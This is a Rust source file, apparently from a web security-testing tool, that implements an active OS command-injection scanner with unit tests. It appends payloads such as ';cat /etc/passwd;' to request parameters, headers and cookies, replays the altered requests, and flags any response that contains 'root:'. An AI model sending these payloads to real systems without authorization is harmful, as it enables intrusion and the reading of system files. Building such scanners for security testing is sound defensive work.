//! Active vulnerability scanning of captured requests
//!
//! A scanner mutates a stored request one field at a time, sends each
//! variant through a [`Probe`] and reports the fields whose variant tripped
//! it. Findings are labels of the form `"<surface>: <field>"`.

use crate::model::{build_form_body, FieldMap, Request};
use crate::replay;
use async_trait::async_trait;
use std::collections::BTreeMap;
use tracing::debug;

/// Response text that proves `/etc/passwd` was read
pub const DEFAULT_INDICATOR: &str = "root:";

const DEFAULT_PAYLOADS: &[&str] = &[";cat /etc/passwd;", "|cat /etc/passwd|", "`cat /etc/passwd`"];

const FORM_URLENCODED: &str = "application/x-www-form-urlencoded";

/// Sends a live request and decides whether the response indicates a hit.
/// Failures to reach the origin are reported as `false`.
#[async_trait]
pub trait Probe: Send + Sync {
    async fn probe(&self, request: reqwest::Request) -> bool;
}

#[async_trait]
impl<F> Probe for F
where
    F: Fn(&reqwest::Request) -> bool + Send + Sync,
{
    async fn probe(&self, request: reqwest::Request) -> bool {
        self(&request)
    }
}

/// Probe that executes the request and looks for `indicator` in the body
pub struct IndicatorProbe {
    client: reqwest::Client,
    indicator: String,
}

impl IndicatorProbe {
    pub fn new(client: reqwest::Client, indicator: impl Into<String>) -> Self {
        Self {
            client,
            indicator: indicator.into(),
        }
    }
}

#[async_trait]
impl Probe for IndicatorProbe {
    async fn probe(&self, request: reqwest::Request) -> bool {
        let url = request.url().clone();
        match self.client.execute(request).await {
            Ok(response) => match response.text().await {
                Ok(body) => body.contains(&self.indicator),
                Err(e) => {
                    debug!("Probe {} body unreadable: {}", url, e);
                    false
                }
            },
            Err(e) => {
                debug!("Probe {} failed: {}", url, e);
                false
            }
        }
    }
}

/// A vulnerability check over a captured request
#[async_trait]
pub trait VulnerabilityScanner: Send + Sync {
    fn name(&self) -> &str;

    /// Labels of every field found vulnerable
    async fn scan(&self, original: &Request, probe: &dyn Probe) -> Vec<String>;
}

/// Injection surfaces, in scan order
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Surface {
    Query,
    Form,
    Header,
    Cookie,
}

impl Surface {
    const ALL: [Surface; 4] = [Surface::Query, Surface::Form, Surface::Header, Surface::Cookie];

    fn label(self) -> &'static str {
        match self {
            Surface::Query => "GET param",
            Surface::Form => "POST param",
            Surface::Header => "Header",
            Surface::Cookie => "Cookie",
        }
    }

    fn fields(self, request: &Request) -> &FieldMap {
        match self {
            Surface::Query => &request.query_params,
            Surface::Form => &request.form_params,
            Surface::Header => &request.headers,
            Surface::Cookie => &request.cookies,
        }
    }

    fn applies_to(self, request: &Request) -> bool {
        match self {
            Surface::Form => request.method.eq_ignore_ascii_case("POST"),
            _ => true,
        }
    }

    /// Fields worth mutating; rebuilt headers never reach the origin as stored
    fn targets(self, request: &Request) -> Vec<String> {
        self.fields(request)
            .keys()
            .filter(|name| self != Surface::Header || !replay::is_rebuilt_header(name))
            .cloned()
            .collect()
    }

    /// Append `payload` to `field` in a copy of `original`
    fn inject(self, original: &Request, field: &str, payload: &str) -> Request {
        let mut trial = original.clone();
        let fields = match self {
            Surface::Query => &mut trial.query_params,
            Surface::Form => &mut trial.form_params,
            Surface::Header => &mut trial.headers,
            Surface::Cookie => &mut trial.cookies,
        };
        if let Some(value) = fields.get_mut(field) {
            value.push_str(payload);
        }

        if self == Surface::Form {
            trial.body = build_form_body(&trial.form_params).into_bytes();
            trial
                .headers
                .retain(|name, _| !name.eq_ignore_ascii_case("content-type"));
            trial
                .headers
                .insert("content-type".to_string(), FORM_URLENCODED.to_string());
        }

        trial
    }
}

/// OS command injection through shell metacharacters
pub struct CommandInjection {
    payloads: Vec<String>,
}

impl Default for CommandInjection {
    fn default() -> Self {
        Self::with_payloads(DEFAULT_PAYLOADS.iter().map(|p| p.to_string()))
    }
}

impl CommandInjection {
    pub fn with_payloads(payloads: impl IntoIterator<Item = String>) -> Self {
        Self {
            payloads: payloads.into_iter().collect(),
        }
    }
}

#[async_trait]
impl VulnerabilityScanner for CommandInjection {
    fn name(&self) -> &str {
        "command_injection"
    }

    async fn scan(&self, original: &Request, probe: &dyn Probe) -> Vec<String> {
        let mut findings = Vec::new();

        for surface in Surface::ALL {
            if !surface.applies_to(original) {
                continue;
            }

            for field in surface.targets(original) {
                for payload in &self.payloads {
                    let trial = surface.inject(original, &field, payload);
                    let live = match replay::build_request(&trial) {
                        Ok(live) => live,
                        Err(e) => {
                            debug!("Skipping {} {}: {}", surface.label(), field, e);
                            break;
                        }
                    };

                    if probe.probe(live).await {
                        findings.push(format!("{}: {}", surface.label(), field));
                        break;
                    }
                }
            }
        }

        findings
    }
}

/// Scanners run by default
pub fn default_scanners() -> Vec<Box<dyn VulnerabilityScanner>> {
    vec![Box::new(CommandInjection::default())]
}

/// Run every scanner and group non-empty findings by scanner name
pub async fn scan_all(
    scanners: &[Box<dyn VulnerabilityScanner>],
    original: &Request,
    probe: &dyn Probe,
) -> BTreeMap<String, Vec<String>> {
    let mut results = BTreeMap::new();
    for scanner in scanners {
        let findings = scanner.scan(original, probe).await;
        debug!("{} reported {} finding(s)", scanner.name(), findings.len());
        if !findings.is_empty() {
            results.insert(scanner.name().to_string(), findings);
        }
    }
    results
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::atomic::{AtomicUsize, Ordering};

    fn search_request() -> Request {
        Request {
            method: "GET".to_string(),
            host: "example.com".to_string(),
            path: "/search".to_string(),
            scheme: "http".to_string(),
            query_params: FieldMap::from([("q".to_string(), "search".to_string())]),
            ..Default::default()
        }
    }

    fn url_contains(needle: &'static str) -> impl Fn(&reqwest::Request) -> bool + Send + Sync {
        move |request: &reqwest::Request| {
            request
                .url()
                .query_pairs()
                .any(|(k, v)| format!("{}={}", k, v) == needle)
        }
    }

    #[tokio::test]
    async fn test_query_param_finding() {
        let probe = url_contains("q=search;cat /etc/passwd;");
        let findings = CommandInjection::default()
            .scan(&search_request(), &probe)
            .await;
        assert_eq!(findings, vec!["GET param: q".to_string()]);
    }

    #[tokio::test]
    async fn test_no_findings_when_probe_never_trips() {
        let probe = |_: &reqwest::Request| false;
        let findings = CommandInjection::default()
            .scan(&search_request(), &probe)
            .await;
        assert!(findings.is_empty());
    }

    #[tokio::test]
    async fn test_first_tripping_payload_stops_field() {
        let calls = AtomicUsize::new(0);
        let probe = |_: &reqwest::Request| {
            calls.fetch_add(1, Ordering::SeqCst);
            true
        };
        let mut request = search_request();
        request
            .query_params
            .insert("page".to_string(), "1".to_string());

        let findings = CommandInjection::default().scan(&request, &probe).await;
        assert_eq!(findings, vec!["GET param: page", "GET param: q"]);
        assert_eq!(calls.load(Ordering::SeqCst), 2);
    }

    #[tokio::test]
    async fn test_form_params_only_for_post() {
        let body_contains = |request: &reqwest::Request| {
            request
                .body()
                .and_then(|b| b.as_bytes())
                .map(|b| String::from_utf8_lossy(b).contains("%7Ccat+%2Fetc%2Fpasswd%7C"))
                .unwrap_or(false)
        };

        let mut request = search_request();
        request.query_params.clear();
        request
            .form_params
            .insert("cmd".to_string(), "ls".to_string());

        request.method = "PUT".to_string();
        let findings = CommandInjection::default().scan(&request, &body_contains).await;
        assert!(findings.is_empty());

        request.method = "POST".to_string();
        let findings = CommandInjection::default().scan(&request, &body_contains).await;
        assert_eq!(findings, vec!["POST param: cmd"]);
    }

    #[tokio::test]
    async fn test_header_and_cookie_surfaces() {
        let probe = |request: &reqwest::Request| {
            let agent = request
                .headers()
                .get("user-agent")
                .and_then(|v| v.to_str().ok())
                .unwrap_or("");
            let cookie = request
                .headers()
                .get("cookie")
                .and_then(|v| v.to_str().ok())
                .unwrap_or("");
            agent.ends_with("`cat /etc/passwd`") || cookie.contains("id=7;cat /etc/passwd;")
        };

        let mut request = search_request();
        request.query_params.clear();
        request.headers = FieldMap::from([
            ("user-agent".to_string(), "curl".to_string()),
            ("content-length".to_string(), "0".to_string()),
        ]);
        request.cookies = FieldMap::from([("id".to_string(), "7".to_string())]);

        let findings = CommandInjection::default().scan(&request, &probe).await;
        assert_eq!(findings, vec!["Header: user-agent", "Cookie: id"]);
    }

    #[test]
    fn test_inject_leaves_original_untouched() {
        let original = search_request();
        let trial = Surface::Query.inject(&original, "q", ";id;");
        assert_eq!(trial.query_params["q"], "search;id;");
        assert_eq!(original.query_params["q"], "search");
    }

    #[tokio::test]
    async fn test_scan_all_groups_by_name() {
        let scanners = default_scanners();

        let tripped = url_contains("q=search`cat /etc/passwd`");
        let results = scan_all(&scanners, &search_request(), &tripped).await;
        assert_eq!(
            results.get("command_injection"),
            Some(&vec!["GET param: q".to_string()])
        );

        let clean = |_: &reqwest::Request| false;
        assert!(scan_all(&scanners, &search_request(), &clean).await.is_empty());
    }

    #[tokio::test]
    async fn test_indicator_probe_unreachable_is_false() {
        let client = reqwest::Client::new();
        let probe = IndicatorProbe::new(client, DEFAULT_INDICATOR);
        let request = reqwest::Request::new(
            reqwest::Method::GET,
            "http://127.0.0.1:1/".parse().unwrap(),
        );
        assert!(!probe.probe(request).await);
    }
}
